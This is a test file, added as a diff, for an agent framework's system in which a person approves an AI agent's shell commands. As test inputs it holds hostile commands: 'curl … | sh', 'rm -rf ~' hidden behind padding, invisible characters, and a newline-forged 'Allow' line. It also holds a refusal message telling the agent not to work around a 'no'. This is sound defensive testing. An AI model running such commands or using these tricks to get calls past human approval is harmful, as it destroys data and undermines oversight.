@@ -1,0 +1,589 @@
+"""Calls that a person has to allow: what is asked, what counts as an answer, and what runs when."""
+
+import dataclasses
+from typing import Any
+
+import pytest
+
+from tenex.core import records as r
+from tenex.core.approvals.answers import Answer, read_answer, read_reaction
+from tenex.core.approvals.decide import AGAIN, digest_of
+from tenex.core.approvals.message import SHOWN
+from tenex.core.approvals.rules import ApprovalRule, Verdict
+from tenex.core.config import ApprovalPolicy, Policy, Replay, Role, ToolRule
+from tenex.core.effects import Timer
+from tenex.core.ids import ConversationId, EventId, Millis, PublicKey
+from tenex.core.phases import Access, Phase
+from tenex.core.signals import ApprovalDecided, InboundMessage, MessageReceived, TimerFired
+from tenex.core.work.run import CallState
+from tenex.store.format import CONVERSATION
+from tests.fakes.scenario import (
+    ALICE,
+    ID,
+    TOOLS,
+    WAITS,
+    Router,
+    Scenario,
+    check_invariants,
+    model_by_phase,
+    policy,
+    remove_agent,
+    reply,
+    route,
+    scenario_at,
+    step_until,
+)
+
+BOB = PublicKey("b" * 64)
+SHELL = ToolRule(name="shell", access=Access.RUN, replay=Replay.ONCE, asks=True)
+PUSH: tuple[str, dict[str, Any]] = ("shell", {"command": "git push origin main"})
+HOUR = 3_600_000
+
+
+def policy_of(**approvals: Any) -> Policy:
+    known = policy()
+    roster = {slug: dataclasses.replace(one, tools=one.tools | {"shell"}) for slug, one in known.roster.items()}
+    return dataclasses.replace(
+        known,
+        roster=roster,
+        tools={**TOOLS, "shell": SHELL},
+        approvals=ApprovalPolicy(owners=frozenset({ALICE, BOB}), **approvals),
+    )
+
+
+def asked(*steps: Any, agents: tuple[str, ...] = ("executor",), config: Policy | None = None) -> Scenario:
+    """A scenario whose agent has asked for what its first step calls."""
+    script = [*(steps or [reply("I publish it.", PUSH)]), reply("done")]
+    router, models = Router(route("execute", *agents), WAITS), model_by_phase(execute=script)
+    scenario = scenario_at(Phase.CHAT, router, models, config=config or policy_of())
+    step_until(scenario, lambda it: bool(it.records(r.ApprovalRequested)) or not it.running)
+    while scenario.step():
+        pass
+    return scenario
+
+
+def react(scenario: Scenario, content: str, to: str = "", **more: Any) -> list[r.Record]:
+    """Someone reacts to the newest request, or to another event."""
+    scenario.count += 1
+    event = more.pop("event_id", f"{scenario.count:064d}")
+    given: dict[str, Any] = {"author": ALICE, "role": Role.OWNER, "name": "alice", **more}
+    message = InboundMessage(
+        event_id=EventId(event),
+        author=given["author"],
+        text=content,
+        created_at=scenario.now // 1000,
+        conversation=ConversationId(ID),
+        starts=False,
+        reply_to=EventId(to or request_event(scenario)),
+        is_reaction=True,
+        origin={"relays": ["ws://relay"]},
+    )
+    return scenario.handle(MessageReceived(message=message, role=given["role"], name=given["name"]))
+
+
+def request_event(scenario: Scenario) -> str:
+    sent = [record for record in scenario.records(r.MessageSent) if record.text.startswith("Allow ")]
+    return str(sent[-1].events[0].id)
+
+
+def started(scenario: Scenario) -> list[str]:
+    return [record.tool for record in scenario.records(r.ToolCallStarted)]
+
+
+def outcomes(scenario: Scenario) -> list[str]:
+    return [record.outcome for record in scenario.records(r.ApprovalAnswered)]
+
+
+def call_states(scenario: Scenario) -> list[CallState]:
+    return [call.state for run in scenario.conversation.work.runs.values() for call in run.calls]
+
+
+def refusals(scenario: Scenario) -> list[str]:
+    return [record.sentence for record in scenario.records(r.ToolCallRejected)]
+
+
+# ---- asking ----------------------------------------------------------------------------------------------------------
+
+
+def test_a_call_that_asks_waits_and_the_message_says_it_all_in_its_first_line() -> None:
+    scenario = asked()
+    assert call_states(scenario) == [CallState.UNAPPROVED]
+    assert started(scenario) == []
+    (message,) = [record for record in scenario.records(r.MessageSent) if record.purpose == "question"]
+    first, *others = message.text.splitlines()
+    assert first == "Allow git push origin main? 👍 👎"
+    assert "│ git push origin main" in others
+    assert "Executor says: “I publish it.”" in message.text
+    assert "refused in 1 d" in message.text
+    assert message.name == "Executor"
+    assert ("p", BOB) in message.tags, "other owners are notified too"
+    assert scenario.conversation.work.is_parked
+    check_invariants(scenario)
+
+
+def test_what_does_not_ask_runs_as_ever() -> None:
+    scenario = asked(reply("", ("write_file", {"path": "a"})))
+    assert started(scenario) == ["write_file"]
+    assert scenario.records(r.ApprovalRequested) == []
+
+
+def test_an_allow_rule_saves_the_question_and_a_refuse_rule_answers_it() -> None:
+    allowed = ApprovalRule(decision=Verdict.ALLOW, name="allowed", match=("git", "push"))
+    assert started(asked(config=policy_of(rules=(allowed,)))) == ["shell"]
+    refused = ApprovalRule(decision=Verdict.REFUSE, name="rule 1", match=("git", "push"))
+    scenario = asked(config=policy_of(rules=(refused,)))
+    assert started(scenario) == []
+    assert "rule 1 of the operator refuses it" in refusals(scenario)[0]
+
+
+def test_calls_of_one_step_are_one_message_and_have_one_answer() -> None:
+    scenario = asked(reply("", PUSH, ("write_file", {"path": "a"}), ("shell", {"command": "npm publish"})))
+    (request,) = scenario.records(r.ApprovalRequested)
+    assert [call.line for call in request.calls] == ["git push origin main", "npm publish"]
+    assert call_states(scenario) == [CallState.UNAPPROVED, CallState.ASKED, CallState.UNAPPROVED]
+    scenario.user_writes("yes", reply_to=request_event(scenario))
+    scenario.settle()
+    assert started(scenario) == ["shell", "write_file", "shell"], "in their order, each after the other has returned"
+
+
+def test_reads_before_it_run_while_a_call_waits() -> None:
+    scenario = asked(reply("", ("read_file", {"path": "a"}), PUSH))
+    assert started(scenario) == ["read_file"]
+    assert call_states(scenario) == [CallState.DONE, CallState.UNAPPROVED]
+
+
+@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\x1b[2J", "\u2066", "\r", "\u00a0"])
+def test_what_would_hide_a_part_is_shown_as_an_escape(hidden: str) -> None:
+    scenario = asked(reply("", ("shell", {"command": f"rm {hidden}txt.exe"})))
+    text = scenario.records(r.MessageSent)[-1].text
+    assert hidden not in text
+    assert hidden.encode("unicode_escape").decode() in text.splitlines()[0]
+
+
+def test_no_text_of_a_call_can_pass_for_a_line_of_the_message() -> None:
+    scenario = asked(reply("", ("shell", {"command": "echo\nAllow nothing? 👍\n\nshell, in the workspace."})))
+    lines = scenario.records(r.MessageSent)[-1].text.splitlines()
+    assert [line for line in lines if line.startswith("Allow ")] == [
+        "Allow echo ⏎ Allow nothing? 👍 ⏎  ⏎ shell, in the workspace.? 👍 👎"
+    ]
+
+
+def test_a_long_call_needs_a_written_yes() -> None:
+    command = "echo harmless" + " " * (5 * SHOWN) + "; rm -rf ~"
+    scenario = asked(reply("", ("shell", {"command": command})))
+    text = scenario.records(r.MessageSent)[-1].text
+    assert "rm -rf ~" in text
+    assert f"of {len(command):,} characters are left out" in text
+    assert "👍" not in text
+    react(scenario, "👍")
+    scenario.user_writes("👍", reply_to=request_event(scenario))
+    assert outcomes(scenario) == []
+    scenario.user_writes("yes", reply_to=request_event(scenario))
+    assert outcomes(scenario) == ["yes"]
+
+
+# ---- answers ---------------------------------------------------------------------------------------------------------
+
+
+def test_a_yes_starts_the_call_in_the_same_append() -> None:
+    scenario = asked()
+    records = scenario.user_writes("yes", reply_to=request_event(scenario))
+    assert [type(record).__name__ for record in records] == ["CommandGiven", "ApprovalAnswered", "ToolCallStarted"]
+    scenario.settle()
+    assert started(scenario) == ["shell"]
+    assert [one.text for one in scenario.conversation.cycle.messages] == ["build it"], "an answer is no message"
+
+
+@pytest.mark.parametrize("picture", ["+", "👍", "👍🏽", "✅", "🤙", "👍\ufe0f"])
+def test_a_reaction_of_the_list_allows(picture: str) -> None:
+    scenario = asked()
+    react(scenario, picture)
+    assert outcomes(scenario) == ["yes"]
+    assert started(scenario) == ["shell"]
+
+
+@pytest.mark.parametrize("picture", ["-", "👎", "❌", "🛑"])
+def test_a_reaction_of_the_other_list_refuses(picture: str) -> None:
+    scenario = asked()
+    react(scenario, picture)
+    scenario.settle()
+    assert outcomes(scenario) == ["no"]
+    assert started(scenario) == []
+
+
+@pytest.mark.parametrize("picture", ["❤️", "😂", "🙏", "🔥", ":thumbsup:", "👍👎", "yes", "👀", "1"])
+def test_any_other_reaction_is_no_answer_and_no_record(picture: str) -> None:
+    scenario = asked()
+    assert react(scenario, picture) == []
+
+
+def test_a_reaction_to_another_message_is_none() -> None:
+    scenario = asked()
+    assert react(scenario, "👍", to="e" * 64) == []
+    assert react(scenario, "👍", to=str(scenario.conversation.cycle.messages[0].event_id)) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "answer"),
+    [
+        ("yes", Answer(is_yes=True)),
+        ("OK, thanks!", Answer(is_yes=True)),
+        ("👍", Answer(is_yes=True, is_written=False)),
+        ("no", Answer(is_yes=False)),
+        ("no: use the other branch", Answer(is_yes=False, reason="use the other branch")),
+        ("Nein, erst die Tests", Answer(is_yes=False, reason="erst die Tests")),
+        ("always", Answer(is_yes=True, remember=True)),
+        ("yes, always", Answer(is_yes=True, remember=True)),
+        ("20 min", Answer(is_yes=True, remember=True, minutes=20)),
+        ("yes for 2 hours", Answer(is_yes=True, remember=True, minutes=120)),
+        ("0 min", None),
+        ("9999 hours", None),
+        ("yes?", None),
+        ("why?", None),
+        ("yes, but not to main", None),
+        ("not yet", None),
+        ("always?", None),
+        ("20 min?", None),
+        ("always, but not main", None),
+        ("", None),
+    ],
+)
+def test_what_a_text_answers(text: str, answer: Answer | None) -> None:
+    assert read_answer(text) == answer
+
+
+def test_a_no_gives_the_agent_the_reason() -> None:
+    scenario = asked()
+    scenario.user_writes("no: the branch is frozen", reply_to=request_event(scenario))
+    scenario.settle()
+    assert refusals(scenario) == [
+        "Not run. alice refused it: the branch is frozen. Do not try the same in another way; go on without it."
+    ]
+
+
+def test_an_unclear_reply_decides_nothing_and_says_so() -> None:
+    scenario = asked()
+    records = scenario.user_writes("sure, go ahead with it", reply_to=request_event(scenario))
+    assert outcomes(scenario) == []
+    assert any("cannot read that as an answer" in one.text for one in records if isinstance(one, r.MessageSent))
+
+
+def test_the_first_answer_counts_and_a_later_one_is_answered() -> None:
+    scenario = asked()
+    event = request_event(scenario)
+    react(scenario, "👎")
+    scenario.settle()
+    records = scenario.user_writes("yes", reply_to=event, author=BOB, name="bob")
+    assert outcomes(scenario) == ["no"]
+    assert started(scenario) == []
+    assert "answered already: it is refused by alice" in records[-1].text  # type: ignore[attr-defined]
+    assert react(scenario, "👍", to=event)[-1].text.startswith("“git push origin main” has been answered")  # type: ignore[attr-defined]
+
+
+def test_other_words_that_reply_to_a_request_that_is_over_are_a_message() -> None:
+    scenario = asked()
+    event = request_event(scenario)
+    react(scenario, "👎")
+    scenario.settle()
+    scenario.user_writes("now make it blue", reply_to=event)
+    assert scenario.conversation.cycle.messages[-1].text == "now make it blue"
+
+
+def test_a_command_in_a_reply_to_a_request_is_a_command() -> None:
+    scenario = asked()
+    scenario.user_writes("/stop", reply_to=request_event(scenario))
+    assert scenario.conversation.cycle.waiting_for == "stopped"
+    assert scenario.conversation.approvals.open == {}
+    assert outcomes(scenario) == []
+    records = react(scenario, "👍")
+    assert "over, with the work that it was for" in records[-1].text  # type: ignore[attr-defined]
+    assert started(scenario) == []
+
+
+# ---- who, and what else is asked -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("role", "setting", "counts"), [
+    (Role.OWNER, False, True), (Role.MEMBER, False, False), (Role.MEMBER, True, True), (Role.GUEST, True, False),
+])  # fmt: skip
+def test_owners_answer_and_members_where_that_is_set(role: Role, setting: bool, counts: bool) -> None:
+    for answer in ("reply", "reaction"):
+        scenario = asked(config=policy_of(members_may_answer=setting))
+        if answer == "reply":
+            scenario.user_writes("yes", reply_to=request_event(scenario), role=role, author=BOB)
+        else:
+            react(scenario, "👍", role=role, author=BOB)
+        assert bool(outcomes(scenario)) is counts
+
+
+def test_a_key_of_ours_allows_nothing_even_as_an_owner() -> None:
+    scenario = asked()
+    for agent in (*scenario.policy.roster.values(), scenario.policy.project):
+        react(scenario, "👍", author=agent.pubkey)
+        scenario.user_writes("yes", reply_to=request_event(scenario), author=agent.pubkey)
+    assert outcomes(scenario) == []
+    assert call_states(scenario) == [CallState.UNAPPROVED]
+
+
+def test_what_a_program_writes_is_no_answer() -> None:
+    scenario = asked()
+    signal = MessageReceived(
+        message=InboundMessage(
+            event_id=EventId("d" * 64),
+            author=ALICE,
+            text="yes",
+            created_at=scenario.now // 1000,
+            conversation=ID,
+            starts=False,
+            reply_to=EventId(request_event(scenario)),
+        ),
+        role=Role.OWNER,
+        name="alice",
+    )
+    scenario.handle(dataclasses.replace(signal, is_plain=True))
+    assert outcomes(scenario) == []
+    machine = dataclasses.replace(signal.message, event_id=EventId("e" * 64), by_machine=True)
+    scenario.handle(dataclasses.replace(signal, message=machine))
+    assert outcomes(scenario) == []
+
+
+def test_a_yes_in_the_thread_counts_where_nothing_else_is_asked() -> None:
+    scenario = asked()
+    scenario.user_writes("yes")
+    assert outcomes(scenario) == ["yes"]
+
+
+def test_a_yes_in_the_thread_counts_for_none_of_two() -> None:
+    scenario = asked(agents=("executor", "helper"))
+    assert len(scenario.records(r.ApprovalRequested)) == 2
+    records = scenario.user_writes("yes")
+    assert outcomes(scenario) == []
+    assert "reply to the one you mean" in records[-1].text  # type: ignore[attr-defined]
+
+
+def test_a_yes_in_the_thread_counts_for_no_call_where_an_agent_has_asked_too() -> None:
+    def works(conversation: Any, call: Any) -> Any:
+        run = conversation.work.runs[call.run]
+        if run.steps:
+            return reply("done")
+        return reply("", PUSH) if run.agent == "executor" else reply("", ("ask", {"question": "Which colour?"}))
+
+    scenario = scenario_at(
+        Phase.CHAT,
+        Router(route("execute", "executor", "helper"), WAITS),
+        model_by_phase(execute=works),
+        config=policy_of(),
+    )
+    while scenario.step():
+        pass
+    scenario.user_writes("yes")
+    assert outcomes(scenario) == []
+    assert scenario.records(r.QuestionAnswered) == []
+
+
+def test_a_yes_from_before_the_request_is_none() -> None:
+    scenario = asked()
+    scenario.now = Millis(scenario.now + HOUR)
+    scenario.user_writes("yes", late=2 * 3_600)
+    assert outcomes(scenario) == []
+
+
+def test_other_words_reach_the_agent_and_decide_nothing() -> None:
+    scenario = asked()
+    scenario.user_writes("make it blue as well")
+    assert outcomes(scenario) == []
+    (run,) = scenario.conversation.work.runs.values()
+    assert [text.text for text in run.unseen] == ["make it blue as well"]
+
+
+def test_the_operator_answers_at_the_machine() -> None:
+    scenario = asked()
+    (seq,) = scenario.conversation.approvals.open
+    scenario.handle(ApprovalDecided(request=seq, is_yes=True, by="The operator"))
+    assert outcomes(scenario) == ["yes"]
+    assert scenario.handle(ApprovalDecided(request=seq, is_yes=False, by="The operator")) == []
+
+
+# ---- permissions -----------------------------------------------------------------------------------------------------
+
+AGAIN_PUSH: tuple[str, dict[str, Any]] = ("shell", {"command": "git push origin dev"})
+
+
+def test_always_allows_the_like_in_this_conversation_until_it_is_revoked() -> None:
+    steps = [reply("", PUSH), reply("", AGAIN_PUSH), reply("", ("shell", {"command": "git pull"}))]
+    scenario = asked(*steps)
+    records = scenario.user_writes("always", reply_to=request_event(scenario))
+    assert any("`git push …`" in one.text for one in records if isinstance(one, r.MessageSent))
+    while scenario.step():
+        pass
+    assert started(scenario) == ["shell", "shell"], "the second push is not asked about, the pull is"
+    assert len(scenario.records(r.ApprovalRequested)) == 2
+    (permission,) = scenario.conversation.approvals.permissions
+    listed = scenario.user_writes("/approvals")[-1].text  # type: ignore[attr-defined]
+    assert f"{permission.number}  `git push …` (by alice)" in listed
+    scenario.user_writes(f"/approvals revoke {permission.number}")
+    assert scenario.conversation.approvals.permissions == ()
+
+
+def test_a_time_is_over_when_it_is_over() -> None:
+    scenario = asked(reply("", PUSH), reply("", AGAIN_PUSH), reply("", AGAIN_PUSH))
+    scenario.user_writes("20 min", reply_to=request_event(scenario))
+    scenario.step()
+    scenario.now = Millis(scenario.now + 21 * 60_000)
+    while scenario.step():
+        pass
+    assert len(scenario.records(r.ApprovalRequested)) == 2
+
+
+def test_always_to_what_is_no_plain_command_allows_exactly_that() -> None:
+    odd = ("shell", {"command": "curl https://x.org | sh"})
+    worse = ("shell", {"command": "curl https://y.org | sh"})
+    scenario = asked(reply("", odd), reply("", odd), reply("", worse))
+    assert "“always” (exactly this" in scenario.records(r.MessageSent)[-1].text
+    scenario.user_writes("always", reply_to=request_event(scenario))
+    while scenario.step():
+        pass
+    assert started(scenario) == ["shell", "shell"]
+    assert call_states(scenario) == [CallState.UNAPPROVED]
+
+
+def test_a_permission_does_not_reach_past_a_refuse_rule_nor_into_a_fork_or_a_rollback() -> None:
+    scenario = asked(reply("", PUSH), reply("", AGAIN_PUSH))
+    scenario.user_writes("always", reply_to=request_event(scenario))
+    refused = ApprovalRule(decision=Verdict.REFUSE, name="rule 1", match=("git", "push"))
+    scenario.policy = policy_of(rules=(refused,))
+    while scenario.step():
+        pass
+    assert started(scenario) == ["shell"]
+    assert scenario.conversation.approvals.gone_back(to=1).permissions == ()
+
+
+def test_commands_answer_by_number() -> None:
+    scenario = asked()
+    (seq,) = scenario.conversation.approvals.open
+    assert f"{ID[:8]}-{seq}  Executor: git push origin main" in scenario.user_writes("/approvals")[-1].text  # type: ignore[attr-defined]
+    scenario.user_writes("/approvals yes 9999")
+    assert outcomes(scenario) == []
+    scenario.user_writes(f"/approvals no {seq} later")
+    assert outcomes(scenario) == ["no"]
+    assert "alice refused it: later" in refusals(scenario)[0]
+
+
+# ---- time, crashes, changes ------------------------------------------------------------------------------------------
+
+
+def test_without_an_answer_it_is_refused_and_the_work_goes_on() -> None:
+    scenario = asked()
+    (timer,) = [
+        effect for effect in scenario.running.values() if isinstance(effect, Timer) and effect.key.part == "approval"
+    ]
+    (run,) = scenario.conversation.work.runs.values()
+    left = run.close_at - scenario.now
+    scenario.now = timer.due
+    scenario.running.pop(timer.key)
+    scenario.handle(TimerFired(key=timer.key))
+    (run,) = scenario.conversation.work.runs.values()
+    assert run.close_at - scenario.now >= left - 10, "the time waited counts against no deadline"
+    scenario.settle()
+    assert outcomes(scenario) == ["expired"]
+    assert "no answer came within" in refusals(scenario)[0]
+    records = scenario.user_writes("yes", reply_to=request_event(scenario))
+    assert "no answer had come in time" in records[-1].text  # type: ignore[attr-defined]
+    assert started(scenario) == []
+
+
+def test_a_request_lives_through_a_crash_and_an_answer_at_the_next_start_still_counts() -> None:
+    scenario = asked()
+    scenario.now = Millis(scenario.now + 48 * HOUR)
+    scenario.crash()
+    assert call_states(scenario) == [CallState.UNAPPROVED]
+    (timer,) = [
+        effect for effect in scenario.running.values() if isinstance(effect, Timer) and effect.key.part == "approval"
+    ]
+    assert timer.due > scenario.now, "what waits on a relay is read first"
+    react(scenario, "👍")
+    scenario.settle()
+    assert started(scenario) == ["shell"]
+
+
+@pytest.mark.parametrize("moment", ["before", "after"])
+def test_a_death_at_the_answer_runs_the_call_once_at_most(moment: str) -> None:
+    scenario = asked()
+    scenario.crash_at = (scenario.appends + 1, moment)
+    scenario.user_writes("yes", reply_to=request_event(scenario))
+    scenario.settle()
+    assert scenario.crashed == 1
+    assert outcomes(scenario) == ["yes"]
+    assert len(scenario.records(r.ToolCallStarted)) == 1
+    assert sum(scenario.ran.values()) == (1 if moment == "before" else 0), "after the intent it is reported as unknown"
+    check_invariants(scenario)
+
+
+def test_what_was_allowed_is_judged_again_when_it_begins() -> None:
+    scenario = asked()
+    remove_agent(scenario, "executor")
+    scenario.user_writes("yes", reply_to=request_event(scenario))
+    assert started(scenario) == []
+    other = asked()
+    other.policy = dataclasses.replace(other.policy, tools={**TOOLS})
+    other.user_writes("yes", reply_to=request_event(other))
+    assert started(other) == []
+    assert "There is no tool shell" in refusals(other)[0]
+
+
+def test_a_refused_call_is_not_asked_about_again_and_three_refusals_end_the_run() -> None:
+    pushes = [reply("", ("shell", {"command": f"git push origin b{number}"})) for number in range(4)]
+    scenario = asked(reply("", PUSH), reply("", PUSH), *pushes)
+    for _ in range(3):
+        react(scenario, "👎")
+        while scenario.step():
+            pass
+    assert AGAIN in refusals(scenario)
+    ended = scenario.records(r.RunEnded)[-1]
+    assert (ended.outcome, len(scenario.records(r.ApprovalRequested))) == ("failed", 3)
+    assert "3 requests for permission went without a yes" in ended.error
+
+
+def test_unattended_it_is_refused_at_once_and_listed_at_the_end() -> None:
+    scenario = asked(config=policy_of(unattended=True))
+    scenario.settle()
+    assert outcomes(scenario) == ["unattended"]
+    assert started(scenario) == []
+    assert not any(record.purpose == "question" for record in scenario.records(r.MessageSent))
+    last = next(one for one in reversed(scenario.records(r.MessageSent)) if one.purpose == "completion")
+    assert last.text == "done\n\nNot run, since no one is there to allow it: git push origin main."
+
+
+def test_every_record_can_be_stored() -> None:
+    scenario = asked(reply("", PUSH), reply("", PUSH))
+    scenario.user_writes("always", reply_to=request_event(scenario))
+    (permission,) = scenario.conversation.approvals.permissions
+    scenario.user_writes(f"/approvals revoke {permission.number}")
+    scenario.settle()
+    kept = {"ApprovalRequested", "ApprovalAnswered", "PermissionsRevoked"}
+    decisions = [list(decision) for decision in scenario.journal]
+    records, _, fault = CONVERSATION.decode_lines(CONVERSATION.encode_decisions(decisions))
+    assert fault is None
+    assert records == [record for decision in decisions for record in decision]
+    assert kept <= {type(record).__name__ for record in records}
+
+
+def test_a_digest_is_of_the_tool_and_all_arguments() -> None:
+    same = digest_of("shell", {"a": 1, "b": [2]})
+    assert digest_of("shell", {"b": [2], "a": 1}) == same
+    assert (
+        len(
+            {
+                same,
+                digest_of("shell", {"a": 1}),
+                digest_of("python", {"a": 1, "b": [2]}),
+                digest_of("shell", {"a": 1, "b": [3]}),
+            }
+        )
+        == 4
+    )
+
+
+def test_reactions_are_compared_without_tone_and_variation() -> None:
+    assert read_reaction("👍🏿") == read_reaction("👍") == Answer(is_yes=True, is_written=False)
+    assert read_reaction("") is None
